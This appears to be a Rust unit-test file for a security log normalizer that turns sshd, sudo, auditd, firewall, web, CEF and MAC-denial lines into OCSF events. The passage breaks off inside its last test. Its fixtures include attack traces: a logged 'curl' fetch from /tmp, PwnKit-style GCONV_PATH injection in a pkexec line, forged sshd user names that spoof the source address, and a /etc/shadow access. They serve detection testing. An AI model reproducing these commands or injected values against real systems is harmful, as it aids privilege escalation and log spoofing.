use super::*;
use jiff::tz::TimeZone;

/// A source named `id` whose reference time is the epoch, in UTC.
fn epoch_source(id: &str, syslog: bool) -> Source {
    Source {
        uid_key: None,
        id: id.into(),
        time: TimeContext::new(jiff::Timestamp::UNIX_EPOCH, TimeZone::UTC),
        syslog,
        sender_name: None,
    }
}

fn norm_lines(lines: &[&str]) -> Vec<Box<Event>> {
    let mut n = Normalizer::new(NormalizeConfig {
        reporter_hostname: "agent-1".into(),
        ..NormalizeConfig::default()
    });
    let src = Source {
        uid_key: None,
        id: "/var/log/auth.log".into(),
        time: TimeContext::new("2026-11-27T00:00:00Z".parse().unwrap(), TimeZone::UTC),
        syslog: false,
        sender_name: None,
    };
    for (i, l) in lines.iter().enumerate() {
        n.handle_line(&src, i as u64 + 1, l.as_bytes(), 0);
    }
    n.finish();
    std::iter::from_fn(|| n.poll_event()).collect()
}

#[test]
fn blank_lines_make_no_event_and_are_counted() {
    let mut n = Normalizer::new(NormalizeConfig::default());
    let src = epoch_source("x", false);
    n.handle_line(&src, 1, b"   \r\n", 0);
    assert!(n.poll_event().is_none());
    assert_eq!(n.stats().empty, 1);
}

#[test]
fn unknown_lines_become_base_events_with_raw_data() {
    let ev = &norm_lines(&["completely unstructured text"])[0];
    assert_eq!(ev.class(), Class::Base);
    assert_eq!(ev.raw_data.as_deref(), Some("completely unstructured text"));
    assert_eq!(
        ev.device.as_ref().unwrap().hostname.as_deref(),
        Some("agent-1")
    );
    assert_eq!(
        ev.metadata.reporter.as_ref().unwrap().hostname.as_deref(),
        Some("agent-1")
    );
}

#[test]
fn uids_are_deterministic_per_source_and_line() {
    let a = norm_lines(&["x", "y"]);
    let b = norm_lines(&["x", "y"]);
    assert_eq!(a[0].metadata.uid, b[0].metadata.uid);
    assert_ne!(a[0].metadata.uid, a[1].metadata.uid);
}

#[test]
fn long_lines_are_cut_and_flagged() {
    let mut n = Normalizer::new(NormalizeConfig {
        max_line_bytes: 300,
        ..NormalizeConfig::default()
    });
    let src = epoch_source("x", false);
    let line = "é".repeat(400);
    n.handle_line(&src, 1, line.as_bytes(), 0);
    let ev = n.poll_event().unwrap();
    assert_eq!(ev.metadata.is_truncated, Some(true));
    assert_eq!(ev.metadata.untruncated_size, Some(800));
    assert_eq!(ev.raw_data.unwrap().len(), 300);
}

#[test]
fn r2_sshd_user_name_cannot_forge_the_source_address() {
    let evs = norm_lines(&[
        "Nov 26 10:00:00 web1 sshd[1]: Failed password for invalid user x from 10.0.0.1 port 22 ssh2 from 203.0.113.9 port 4242 ssh2",
        "Nov 26 10:00:00 web1 sshd[1]: Invalid user evil from 10.9.9.9 from 198.51.100.7 port 1",
    ]);
    assert_eq!(evs[0].class(), Class::Authentication);
    assert_eq!(
        evs[0].src_endpoint.as_ref().unwrap().ip.as_deref(),
        Some("203.0.113.9")
    );
    assert_eq!(evs[0].src_endpoint.as_ref().unwrap().port, Some(4242));
    assert_eq!(
        evs[0].user.as_ref().unwrap().name.as_deref(),
        Some("x from 10.0.0.1 port 22 ssh2")
    );
    assert_eq!(
        evs[1].src_endpoint.as_ref().unwrap().ip.as_deref(),
        Some("198.51.100.7")
    );
    assert_eq!(
        evs[1].user.as_ref().unwrap().name.as_deref(),
        Some("evil from 10.9.9.9")
    );
}

#[test]
fn pam_more_failures_carry_the_count() {
    let ev = &norm_lines(&[
        "Dec 10 06:55:48 LabSZ sshd[24200]: PAM 5 more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost=112.95.230.3  user=root",
    ])[0];
    assert_eq!(ev.class(), Class::Authentication);
    assert_eq!(ev.count, Some(5));
    assert_eq!(ev.user.as_ref().unwrap().name.as_deref(), Some("root"));
    assert_eq!(
        ev.src_endpoint.as_ref().unwrap().ip.as_deref(),
        Some("112.95.230.3")
    );
}

#[test]
fn sudo_command_is_a_process_launch() {
    let ev = &norm_lines(&[
        "Nov 26 10:00:00 web1 sudo[77]:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/apt update",
    ])[0];
    assert_eq!(ev.class(), Class::ProcessActivity);
    assert_eq!(
        ev.actor
            .as_ref()
            .unwrap()
            .user
            .as_ref()
            .unwrap()
            .name
            .as_deref(),
        Some("alice")
    );
    let p = ev.process.as_ref().unwrap();
    assert_eq!(p.user.as_ref().unwrap().name.as_deref(), Some("root"));
    assert_eq!(p.cmd_line.as_deref(), Some("/usr/bin/apt update"));
}

#[test]
fn auditd_records_join_into_one_process_event_at_eoe() {
    let evs = norm_lines(&[
        r#"type=SYSCALL msg=audit(1700000000.123:42): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=2 ppid=100 pid=200 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm="curl" exe="/usr/bin/curl" key=(null)"#,
        r#"type=EXECVE msg=audit(1700000000.123:42): argc=3 a0="curl" a1="-s" a2=687474703A2F2F782F792073"#,
        r#"type=CWD msg=audit(1700000000.123:42): cwd="/tmp""#,
        r#"type=EOE msg=audit(1700000000.123:42): "#,
    ]);
    assert_eq!(evs.len(), 1);
    let ev = &evs[0];
    assert_eq!(ev.class(), Class::ProcessActivity);
    let p = ev.process.as_ref().unwrap();
    assert_eq!(p.pid, Some(200));
    assert_eq!(p.cmd_line.as_deref(), Some("curl -s http://x/y s"));
    assert_eq!(p.parent_process.as_ref().unwrap().pid, Some(100));
    assert_eq!(p.auid, Some(1000));
    assert_eq!(p.working_directory.as_deref(), Some("/tmp"));
    assert_eq!(ev.time, 1_700_000_000_123);
}

#[test]
fn netfilter_block_is_a_refused_network_activity() {
    let ev = &norm_lines(&[
        "Nov 26 10:00:00 fw kernel: [123.456] [UFW BLOCK] IN=eth0 OUT= MAC=00:11:22:33:44:55:66:77:88:99:aa:bb:08:00 SRC=203.0.113.5 DST=10.0.0.2 LEN=60 TTL=50 ID=1 PROTO=TCP SPT=4444 DPT=22 WINDOW=1 RES=0x00 SYN URGP=0",
    ])[0];
    assert_eq!(ev.class(), Class::NetworkActivity);
    assert_eq!(ev.header.activity_id, 5);
    assert_eq!(ev.src_endpoint.as_ref().unwrap().port, Some(4444));
    assert_eq!(
        ev.dst_endpoint.as_ref().unwrap().ip.as_deref(),
        Some("10.0.0.2")
    );
    assert_eq!(ev.connection_info.as_ref().unwrap().protocol_num, Some(6));
}

#[test]
fn access_log_line_is_http_activity() {
    let ev = &norm_lines(&[
        r#"203.0.113.9 - bob [10/Oct/2026:13:55:36 -0700] "GET /a.php?id=1 HTTP/1.1" 404 12 "-" "curl/8""#,
    ])[0];
    assert_eq!(ev.class(), Class::HttpActivity);
    let r = ev.http_request.as_ref().unwrap();
    assert_eq!(r.url.as_ref().unwrap().path.as_deref(), Some("/a.php"));
    assert_eq!(
        r.url.as_ref().unwrap().query_string.as_deref(),
        Some("id=1")
    );
    assert_eq!(ev.http_response.as_ref().unwrap().code, Some(404));
    assert_eq!(ev.timezone_offset, Some(-420));
}

#[test]
fn access_line_without_request_or_status_stays_base() {
    let line = r#"203.0.113.9 - - [10/Oct/2026:13:55:36 -0700] "-" - -"#;
    let ev = &norm_lines(&[line])[0];
    assert_eq!(ev.class(), Class::Base);
    assert!(ev.src_endpoint.is_none());
    assert_eq!(ev.raw_data.as_deref(), Some(line));
}

#[test]
fn json_in_a_syslog_message_is_mapped_by_the_config() {
    let cfg = crate::config::parse(
        std::path::Path::new("t.toml"),
        "[[json_mapping]]\nname = \"auth-api.login_failed\"\nclass = \"authentication\"\nactivity_id = 1\nstatus = \"failure\"\nmatch = { event = \"login_failed\" }\nfields = { \"user.name\" = \"user\", \"src_endpoint.ip\" = \"client.ip\", \"service.name\" = \"svc\" }\n",
    )
    .unwrap();
    let mut n = Normalizer::new(NormalizeConfig {
        json: cfg.json,
        ..NormalizeConfig::default()
    });
    let src = Source {
        uid_key: None,
        id: "x".into(),
        time: TimeContext::new("2026-11-27T00:00:00Z".parse().unwrap(), TimeZone::UTC),
        syslog: false,
        sender_name: None,
    };
    let line = r#"Nov 26 10:00:00 app-1 auth-api[5]: {"event":"login_failed","user":"bob","svc":"auth-api","client":{"ip":"198.51.100.1"},"extra":1}"#;
    n.handle_line(&src, 1, line.as_bytes(), 0);
    let ev = n.poll_event().unwrap();
    assert_eq!(ev.class(), Class::Authentication);
    assert_eq!(ev.user.as_ref().unwrap().name.as_deref(), Some("bob"));
    assert_eq!(
        ev.src_endpoint.as_ref().unwrap().ip.as_deref(),
        Some("198.51.100.1")
    );
    assert_eq!(
        ev.device.as_ref().unwrap().hostname.as_deref(),
        Some("app-1")
    );
    // What the mapping did not take stays, nothing else.
    let rest = &ev.unmapped.as_ref().unwrap().other["json"];
    assert_eq!(
        rest,
        &serde_json::json!({"event": "login_failed", "extra": 1})
    );
}

#[test]
fn dropbear_segfault_and_pkexec() {
    let evs = norm_lines(&[
        "Bad PAM password attempt for 'foobar' from 192.168.9.163:49242",
        "Exit before auth (user 'root', 10 fails): Max auth tries reached - user 'root' from [2001:db8::5]:50022",
        "2023-10-05T11:47:20.799042+02:00 leto kernel: [869507.505196] su[1433535]: segfault at 7f1f9b891000 ip 00007f1f9b870d7d sp 00007ffd5dab97f0 error 6 in ld-linux-x86-64.so.2[7f1f9b85e000+25000]",
        "Jan 27 11:02:49 machine pkexec[387348]: srcuser: The value for the SHELL variable was not found the /etc/shells file [USER=root] [TTY=/dev/pts/3] [CWD=/tmp/poc] [COMMAND=GCONV_PATH=./gconv PATH=GCONV_PATH=. SHELL=/fake/shell CHARSET=payload]",
    ]);
    assert_eq!(evs[0].class(), Class::Authentication);
    assert_eq!(
        evs[0].user.as_ref().unwrap().name.as_deref(),
        Some("foobar")
    );
    assert_eq!(evs[0].src_endpoint.as_ref().unwrap().port, Some(49242));
    assert_eq!(
        evs[1].src_endpoint.as_ref().unwrap().ip.as_deref(),
        Some("2001:db8::5")
    );
    assert_eq!(evs[1].user.as_ref().unwrap().name.as_deref(), Some("root"));
    assert_eq!(evs[2].class(), Class::ProcessActivity);
    assert_eq!(evs[2].header.activity_id, 2);
    assert_eq!(evs[2].process.as_ref().unwrap().pid, Some(1433535));
    assert_eq!(evs[3].class(), Class::ProcessActivity);
    assert_eq!(
        evs[3].header.status,
        Some(vedette_schemas::ocsf::Status::Failure)
    );
    let p = evs[3].process.as_ref().unwrap();
    assert!(
        p.cmd_line
            .as_deref()
            .unwrap()
            .starts_with("GCONV_PATH=./gconv")
    );
    assert_eq!(p.user.as_ref().unwrap().name.as_deref(), Some("root"));
}

/// A file tail checkpoints what the stage acknowledges; an auditd event still waiting for
/// its EOE must hold the checkpoint back at its first record, or a crash would lose it.
#[test]
fn pending_audit_records_hold_the_checkpoint_back() {
    let mut n = Normalizer::new(NormalizeConfig::default());
    let src = Source {
        uid_key: Some("file:abc".into()),
        id: "/var/log/audit/audit.log".into(),
        time: TimeContext::new(jiff::Timestamp::UNIX_EPOCH, TimeZone::UTC),
        syslog: false,
        sender_name: None,
    };
    let syscall = "type=SYSCALL msg=audit(1700000000.123:77): arch=c000003e syscall=59 success=yes exit=0 pid=10 ppid=1 auid=1000 uid=0 comm=\"id\" exe=\"/usr/bin/id\"";
    let execve = "type=EXECVE msg=audit(1700000000.123:77): argc=1 a0=\"id\"";
    let eoe = "type=EOE msg=audit(1700000000.123:77):";
    let rx = |seq| Received {
        seq,
        now_ms: 0,
        ..Received::default()
    };
    assert_eq!(n.pending_floor("file:abc"), None);
    n.handle_received(&src, rx(1000), syscall.as_bytes());
    n.handle_received(&src, rx(1200), execve.as_bytes());
    assert_eq!(n.pending_floor("file:abc"), Some(1000));
    assert_eq!(n.pending_floor("file:other"), None);
    assert!(n.poll_event().is_none());
    n.handle_received(&src, rx(1300), eoe.as_bytes());
    assert!(n.poll_event().is_some());
    assert_eq!(n.pending_floor("file:abc"), None);
}

/// A record from the network without a host name is about its sender, never about the
/// agent's own host; the sender is in `metadata.loggers`.
#[test]
fn network_records_name_their_sender_not_the_agent() {
    let mut n = Normalizer::new(NormalizeConfig {
        reporter_hostname: "agent-1".into(),
        ..NormalizeConfig::default()
    });
    let src = Source {
        uid_key: Some("udp://0.0.0.0:514#nonce".into()),
        id: "udp://0.0.0.0:514".into(),
        time: TimeContext::new(jiff::Timestamp::UNIX_EPOCH, TimeZone::UTC),
        syslog: true,
        sender_name: None,
    };
    let rx = Received {
        seq: 1,
        now_ms: 5,
        peer: Some("192.0.2.7".parse().unwrap()),
        cut_from: None,
        clock_ms: None,
        incomplete: false,
    };
    n.handle_received(
        &src,
        rx,
        b"<13>Jan  1 00:00:00 app: no host in this one? maybe",
    );
    n.handle_received(&src, rx, b"<13>1 2026-01-01T00:00:00Z - app - - - nil host");
    let evs: Vec<_> = std::iter::from_fn(|| n.poll_event()).collect();
    let last = evs.last().unwrap();
    let dev = last.device.as_ref().unwrap();
    assert_eq!(dev.ip.as_deref(), Some("192.0.2.7"));
    assert_ne!(dev.hostname.as_deref(), Some("agent-1"));
    let logger = &last.metadata.loggers.as_ref().unwrap()[0];
    assert_eq!(
        logger.device.as_ref().unwrap().ip.as_deref(),
        Some("192.0.2.7")
    );
    assert_eq!(logger.logged_time, Some(5));
    assert_eq!(logger.name.as_deref(), Some("udp://0.0.0.0:514"));
}

#[test]
fn cef_user_of_an_event_without_a_class_for_it_stays_beside_the_cef_fields() {
    let ev = &norm_lines(&[
        "Jan 15 00:00:00 fw-1 CEF:0|Acme|Vault|2.1|700|Secret read|3|suser=alice cs1=prod",
    ])[0];
    let json = serde_json::to_value(&**ev).unwrap();
    let cef = &json["unmapped"]["cef"];
    assert_eq!(cef["user"], "alice", "{json}");
    assert_eq!(cef["device_product"], "Vault");
    assert_eq!(cef["extensions"]["cs1"], "prod");
}

#[test]
fn a_file_line_without_pri_or_pid_has_no_empty_syslog_section() {
    let ev = &norm_lines(&["Jan 15 00:00:00 web-1 kernel: something happened"])[0];
    let json = serde_json::to_value(&**ev).unwrap();
    assert!(json["unmapped"].get("syslog").is_none(), "{json}");
    let ev = &norm_lines(&["Jan 15 00:00:00 web-1 app[42]: something happened"])[0];
    let json = serde_json::to_value(&**ev).unwrap();
    assert_eq!(json["unmapped"]["syslog"]["procid"], "42", "{json}");
}

/// Audit serials are per kernel: in a file or stream that gathers several hosts'
/// audisp-syslog lines (a central syslog server, a relay), two hosts' events with one
/// serial stay two events, and one host's far-ahead serial does not complete another
/// host's event before its records are in.
#[test]
fn relayed_audit_records_of_several_hosts_join_per_host() {
    let sc = |host: &str, serial: u64, pid: u32| {
        format!(
            "Jan 15 00:00:00 {host} audisp-syslog[1]: type=SYSCALL msg=audit(1736899200.035:{serial}): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid={pid} auid=1000 uid=0 comm=\"id\" exe=\"/usr/bin/id\""
        )
    };
    let cwd = |host: &str, serial: u64, dir: &str| {
        format!(
            "Jan 15 00:00:00 {host} audisp-syslog[1]: type=CWD msg=audit(1736899200.035:{serial}): cwd=\"{dir}\""
        )
    };
    let eoe = |host: &str, serial: u64| {
        format!(
            "Jan 15 00:00:00 {host} audisp-syslog[1]: type=EOE msg=audit(1736899200.035:{serial}):"
        )
    };
    let lines = [
        sc("web-01", 500, 11),
        sc("web-02", 500, 22),
        // web-03's counter is far ahead: it says nothing about web-01's or web-02's events.
        sc("web-03", 9_000_000, 33),
        cwd("web-01", 500, "/one"),
        cwd("web-02", 500, "/two"),
        cwd("web-03", 9_000_000, "/three"),
        eoe("web-01", 500),
        eoe("web-02", 500),
        eoe("web-03", 9_000_000),
    ];
    let refs: Vec<&str> = lines.iter().map(String::as_str).collect();
    let evs = norm_lines(&refs);
    assert_eq!(evs.len(), 3, "one event per host: {evs:#?}");
    let mut seen: Vec<(String, Option<i64>, String)> = evs
        .iter()
        .map(|ev| {
            let p = ev.process.as_ref().unwrap();
            (
                ev.device
                    .as_ref()
                    .unwrap()
                    .hostname
                    .as_deref()
                    .unwrap()
                    .to_owned(),
                p.pid,
                p.working_directory.as_deref().unwrap_or("").to_owned(),
            )
        })
        .collect();
    seen.sort();
    assert_eq!(
        seen,
        [
            ("web-01".to_owned(), Some(11), "/one".to_owned()),
            ("web-02".to_owned(), Some(22), "/two".to_owned()),
            ("web-03".to_owned(), Some(33), "/three".to_owned()),
        ]
    );
}

/// A `PROCTITLE` ends its event at once (the kernel writes it last), so an audisp stream
/// without `EOE` records does not wait for the timeout; an `EOE` that follows ends nothing
/// and is no orphan, while an `EOE` nobody announced still is.
#[test]
fn proctitle_ends_its_event_and_the_following_eoe_is_no_orphan() {
    let mut n = Normalizer::new(NormalizeConfig::default());
    let src = epoch_source("/var/log/audit/audit.log", false);
    let lines = [
        "type=SYSCALL msg=audit(1700000000.123:77): arch=c000003e syscall=59 success=yes exit=0 pid=10 ppid=1 auid=1000 uid=0 comm=\"id\" exe=\"/usr/bin/id\"",
        "type=EXECVE msg=audit(1700000000.123:77): argc=1 a0=\"id\"",
        "type=PROCTITLE msg=audit(1700000000.123:77): proctitle=6964",
    ];
    for (i, l) in lines.iter().enumerate() {
        n.handle_line(&src, i as u64 + 1, l.as_bytes(), 0);
    }
    let ev = n
        .poll_event()
        .expect("complete at its PROCTITLE, before any timeout");
    assert_eq!(ev.class(), Class::ProcessActivity);
    assert_eq!(ev.raw_data.as_deref(), Some(lines.join("\n").as_str()));
    assert_eq!(n.pending_floor("/var/log/audit/audit.log"), None);
    n.handle_line(&src, 4, b"type=EOE msg=audit(1700000000.123:77):", 0);
    assert!(
        n.poll_event().is_none(),
        "the EOE of an ended event makes no event"
    );
    n.handle_line(&src, 5, b"type=EOE msg=audit(1700000000.123:78):", 0);
    let orphan = n
        .poll_event()
        .expect("an EOE without its event is reported");
    assert_eq!(
        orphan.metadata.event_code.as_deref(),
        Some("auditd.eoe_without_event")
    );
    n.finish();
    assert!(n.poll_event().is_none());
}

/// `[agent] audit_timeout_ms` (auditd's `end_of_event_timeout`) applies from a reload on,
/// to the events already waiting too.
#[test]
fn a_reloaded_audit_timeout_applies_to_waiting_events() {
    let mut n = Normalizer::new(NormalizeConfig::default());
    let src = epoch_source("/var/log/audit/audit.log", false);
    let rx = Received {
        seq: 1,
        now_ms: 10_000,
        ..Received::default()
    };
    n.handle_received(
        &src,
        rx,
        b"type=SYSCALL msg=audit(1700000000.123:77): arch=c000003e syscall=59 success=yes exit=0 pid=10 uid=0 comm=\"id\" exe=\"/usr/bin/id\"",
    );
    assert_eq!(n.poll_timeout(), Some(12_000));
    n.reconfigure(NormalizeConfig {
        audit_timeout_ms: 200,
        ..NormalizeConfig::default()
    });
    assert_eq!(n.poll_timeout(), Some(10_200));
    n.handle_timeout(10_199);
    assert!(n.poll_event().is_none());
    n.handle_timeout(10_200);
    assert!(n.poll_event().is_some());
}

/// The sender's address is formatted once per run of records from it: records from
/// alternating senders (UDP from many hosts) still each name their own.
#[test]
fn each_record_names_its_own_sender_when_senders_alternate() {
    let mut n = Normalizer::new(NormalizeConfig::default());
    let src = epoch_source("udp://0.0.0.0:514", true);
    let peers = [
        "192.0.2.7",
        "2001:db8::9",
        "2001:db8::9",
        "192.0.2.7",
        "198.51.100.1",
    ];
    for (i, p) in peers.iter().enumerate() {
        let rx = Received {
            seq: i as u64,
            now_ms: 5,
            peer: Some(p.parse().unwrap()),
            cut_from: None,
            clock_ms: None,
            incomplete: false,
        };
        n.handle_received(&src, rx, b"<13>1 2026-01-01T00:00:00Z - app - - - nil host");
    }
    let evs: Vec<_> = std::iter::from_fn(|| n.poll_event()).collect();
    let named: Vec<(&str, &str)> = evs
        .iter()
        .map(|e| {
            let logger = &e.metadata.loggers.as_ref().unwrap()[0];
            (
                e.device.as_ref().unwrap().ip.as_deref().unwrap(),
                logger.device.as_ref().unwrap().ip.as_deref().unwrap(),
            )
        })
        .collect();
    let want: Vec<(&str, &str)> = peers.iter().map(|p| (*p, *p)).collect();
    assert_eq!(named, want);
}

/// A MAC denial logged by the kernel (AppArmor on Ubuntu and SUSE, SELinux on RHEL) is a
/// file access refused: File System Activity with the file, the process and the verdict,
/// also behind klogd's uptime stamp. A check on something other than a file (a capability,
/// a socket) stays a Base Event with every field.
#[test]
fn apparmor_and_selinux_file_denials_are_file_activity() {
    let evs = norm_lines(&[
        r#"Jan 15 00:00:01 web-11 kernel: [   12.345678] audit: type=1400 audit(1736899201.084:100004): apparmor="DENIED" operation="open" profile="/usr/bin/man" name="/etc/shadow" pid=45782 comm="tcpdump" requested_mask="r" denied_mask="r" fsuid=0 ouid=0"#,
        r#"Jan 15 00:00:02 web-11 kernel: audit: type=1400 audit(1736899202.084:100005): apparmor="DENIED" operation="capable" profile="/usr/sbin/cupsd" pid=5 comm="cupsd" capability=12 capname="net_admin""#,
        r#"type=AVC msg=audit(1736899203.977:300): avc:  denied  { unlink } for  pid=77 comm="rm" name="passwd" dev="dm-0" ino=12 scontext=u:r:t:s0 tcontext=u:object_r:passwd_file_t:s0 tclass=file permissive=0"#,
        r#"Jan 15 00:00:04 web-11 kernel: audit: type=1400 audit(1736899204.084:100006): apparmor="DENIED" operation="connect" class="net" profile="p" name="/run/x.sock" pid=4 comm="x""#,
    ]);
    assert_eq!(evs.len(), 4);
    let base = evs.iter().filter(|e| e.class() == Class::Base).count();
    assert_eq!(
        base, 2,
        "the capability and the socket connect stay Base Events"
    );
    let by_code = |c: &str| {
        evs.iter()
            .find(|e| e.metadata.event_code.as_deref() == Some(c))
            .unwrap_or_else(|| panic!("no {c}: {evs:#?}"))
    };
    let aa = by_code("auditd.apparmor");
    assert_eq!(aa.class(), Class::FileActivity);
    assert_eq!(aa.header.activity_id, 14);
    assert_eq!(
        aa.header.status,
        Some(vedette_schemas::ocsf::Status::Failure)
    );
    assert_eq!(aa.status_detail.as_deref(), Some("DENIED open"));
    let f = aa.file.as_ref().unwrap();
    assert_eq!(f.path.as_deref(), Some("/etc/shadow"));
    assert_eq!(f.name.as_deref(), Some("shadow"));
    let p = aa.actor.as_ref().unwrap().process.as_ref().unwrap();
    assert_eq!((p.pid, p.name.as_deref()), (Some(45782), Some("tcpdump")));
    assert_eq!(
        aa.device.as_ref().unwrap().hostname.as_deref(),
        Some("web-11")
    );

    let se = by_code("auditd.selinux");
    assert_eq!(se.class(), Class::FileActivity);
    assert_eq!(se.header.activity_id, 4);
    assert_eq!(
        se.header.status,
        Some(vedette_schemas::ocsf::Status::Failure)
    );
    assert_eq!(se.status_detail.as_deref(), Some("denied { unlink }"));
    let f = se.file.as_ref().unwrap();
    // SELinux names the last component only, unless it gives `path`.
    assert_eq!(
        (f.name.as_deref(), f.path.as_deref()),
        (Some("passwd"), None)
    );
    assert_eq!((f.type_id, f.uid.as_deref()), (Some(1), Some("12")));

    let cap = by_code("auditd.avc");
    assert_eq!(cap.class(), Class::Base);
    assert!(
        cap.unmapped.as_ref().unwrap().section("auditd").unwrap()["AVC"]["capname"] == "net_admin"
    );
}

/// A SUID binary killed while dumping core (how an exploit of it often shows, e.g. the
/// Looney Tunables `su` crashes) is Process Activity Terminate, Failure, with the process,
/// its user, the login user and the signal; a group added through the account tools is an
/// Account Change of a `Group` user, as groupadd's own lines are.
#[test]
fn core_dumps_and_group_changes_from_auditd_are_read() {
    let evs = norm_lines(&[
        "type=ANOM_ABEND msg=audit(1696431282.553:8283): auid=1000 uid=1000 gid=1000 ses=417 subj=unconfined pid=192019 comm=\"su\" exe=\"/usr/bin/su\" sig=11 res=1\u{1d}AUID=\"bui\" UID=\"bui\" GID=\"bui\"",
        "type=ADD_GROUP msg=audit(1451781471.602:194894): pid=1321 uid=0 auid=1000 ses=1 msg='op=add-group id=1001 acct=\"frodo\" exe=\"/usr/sbin/useradd\" hostname=? addr=? terminal=pts/0 res=success'",
    ]);
    assert_eq!(evs.len(), 2);
    let crash = &evs[0];
    assert_eq!(crash.class(), Class::ProcessActivity);
    assert_eq!(crash.header.activity_id, 2);
    assert_eq!(
        crash.header.status,
        Some(vedette_schemas::ocsf::Status::Failure)
    );
    assert_eq!(
        crash.status_detail.as_deref(),
        Some("killed by signal 11 (SIGSEGV)")
    );
    let p = crash.process.as_ref().unwrap();
    assert_eq!((p.pid, p.name.as_deref()), (Some(192_019), Some("su")));
    assert_eq!(
        p.file.as_ref().unwrap().path.as_deref(),
        Some("/usr/bin/su")
    );
    let actor = crash.actor.as_ref().unwrap().user.as_ref().unwrap();
    assert_eq!(
        (actor.uid.as_deref(), actor.name.as_deref()),
        (Some("1000"), Some("bui"))
    );

    let group = &evs[1];
    assert_eq!(group.class(), Class::AccountChange);
    assert_eq!(group.header.activity_id, 1);
    let u = group.user.as_ref().unwrap();
    assert_eq!(
        (u.name.as_deref(), u.uid.as_deref(), u.r#type.as_deref()),
        (Some("frodo"), Some("1001"), Some("Group"))
    );
}

/// PAM's account check and credential steps (`USER_ACCT`, `CRED_*`) were Base Events;
/// they are Authentication activity Other, so a failed attempt is one failed Logon (its
/// `USER_AUTH`), not three.
#[test]
fn pam_account_and_credential_records_from_auditd_are_authentication_steps() {
    use vedette_schemas::ocsf::Status;
    let evs = norm_lines(&[
        "type=CRED_ACQ msg=audit(1736899200.301:100020): pid=17684 uid=0 auid=1046 ses=2 subj=unconfined msg='op=PAM:setcred acct=\"ansible\" exe=\"/usr/sbin/sshd\" hostname=? addr=61.49.25.101 terminal=ssh res=failed'",
        "type=USER_ACCT msg=audit(1736899200.302:100021): pid=17684 uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:accounting grantors=pam_permit acct=\"root\" exe=\"/usr/sbin/cron\" hostname=? addr=? terminal=cron res=success'",
        "type=CRED_DISP msg=audit(1736899200.303:100022): pid=17684 uid=0 auid=1046 ses=2 msg='op=PAM:setcred acct=\"ansible\" exe=\"/usr/sbin/sshd\" hostname=h1 addr=? terminal=ssh res=success'",
        "type=USER_AUTH msg=audit(1736899200.304:100023): pid=17684 uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:authentication acct=\"ansible\" exe=\"/usr/sbin/sshd\" hostname=? addr=61.49.25.101 terminal=ssh res=failed'",
    ]);
    assert_eq!(evs.len(), 4);
    let want = [
        (99, Status::Failure, "auditd.cred_acq", "ansible"),
        (99, Status::Success, "auditd.user_acct", "root"),
        (99, Status::Success, "auditd.cred_disp", "ansible"),
        (1, Status::Failure, "auditd.user_auth", "ansible"),
    ];
    for (ev, (activity, status, code, user)) in evs.iter().zip(want) {
        assert_eq!(ev.class(), Class::Authentication, "{code}");
        assert_eq!(ev.header.activity_id, activity, "{code}");
        assert_eq!(ev.header.status, Some(status), "{code}");
        assert_eq!(ev.metadata.event_code.as_deref(), Some(code));
        assert_eq!(ev.user.as_ref().and_then(|u| u.name.as_deref()), Some(user));
    }
    let acq = &evs[0];
    assert_eq!(acq.status_detail.as_deref(), Some("PAM:setcred"));
    assert_eq!(
        acq.src_endpoint.as_ref().and_then(|e| e.ip.as_deref()),
        Some("61.49.25.101")
    );
    assert_eq!(
        evs[2]
            .src_endpoint
            .as_ref()
            .and_then(|e| e.hostname.as_deref()),
        Some("h1")
    );
}

/// A record's repeated key keeps its last value, written once, however many fields the
/// record has (past the small case of the check, which is linear for any number of them).
#[test]
fn an_audit_record_keeps_the_last_value_of_a_repeated_key() {
    let mut fields: Vec<String> = (0..30).map(|i| format!("f{i}={i}")).collect();
    fields.extend(["f3=last".to_owned(), "f17=again".to_owned()]);
    let line = format!(
        "type=SYSCALL msg=audit(1736899200.035:7): arch=c000003e syscall=59 success=yes {}",
        fields.join(" ")
    );
    let evs = norm_lines(&[line.as_str(), "type=EOE msg=audit(1736899200.035:7): "]);
    let ev = evs.first().expect("one event");
    let mut out = Vec::new();
    vedette_schemas::ocsf::WriteJson::write_json(&**ev, &mut out);
    let text = String::from_utf8(out).unwrap();
    assert_eq!(text.matches("\"f3\":").count(), 1, "{text}");
    assert_eq!(text.matches("\"f17\":").count(), 1, "{text}");
    let section = ev.unmapped.as_ref().unwrap().section("auditd").unwrap();
    assert_eq!(section["SYSCALL"]["f3"], "last");
    assert_eq!(section["SYSCALL"]["f17"], "again");
    assert_eq!(section["SYSCALL"]["f29"], "29");
}

/// Record types named like the section's own members (`serial`, and the name it is moved
/// to) keep their fields, each under a name of its own.
#[test]
fn audit_record_types_never_share_a_name_in_the_section() {
    let evs = norm_lines(&[
        "type=serial msg=audit(1736899200.035:8): a=1",
        "type=type_serial msg=audit(1736899200.035:8): b=2",
        "type=EOE msg=audit(1736899200.035:8): ",
    ]);
    let ev = evs.first().expect("one event");
    let mut out = Vec::new();
    vedette_schemas::ocsf::WriteJson::write_json(&**ev, &mut out);
    let text = String::from_utf8(out).unwrap();
    assert_eq!(text.matches("\"serial\":").count(), 1, "{text}");
    assert_eq!(text.matches("\"type_serial\":").count(), 1, "{text}");
    let section = ev.unmapped.as_ref().unwrap().section("auditd").unwrap();
    assert_eq!(section["serial"], 8);
    assert_eq!(section["type_type_serial"]["a"], "1");
    assert_eq!(section["type_serial"]["b"], "2");
}

/// The joiner's timeout counts on the shell's monotonic clock, not the wall clock the
/// record was read at: with the wall clock stepped back an hour between two records, the
/// second waited an hour and two seconds instead of two.
#[test]
fn the_audit_timeout_counts_on_the_records_monotonic_clock() {
    let mut n = Normalizer::new(NormalizeConfig::default());
    let src = epoch_source("/var/log/audit/audit.log", false);
    let hour = 3_600_000;
    for (seq, now_ms, clock_ms, id) in [(1, 10 * hour, 5_000, 77), (2, 9 * hour, 6_000, 78)] {
        let line = format!(
            "type=SYSCALL msg=audit(1700000000.123:{id}): arch=c000003e syscall=59 success=yes exit=0 pid=10 uid=0 comm=\"id\" exe=\"/usr/bin/id\""
        );
        let rx = Received {
            seq,
            now_ms,
            clock_ms: Some(clock_ms),
            incomplete: false,
            ..Received::default()
        };
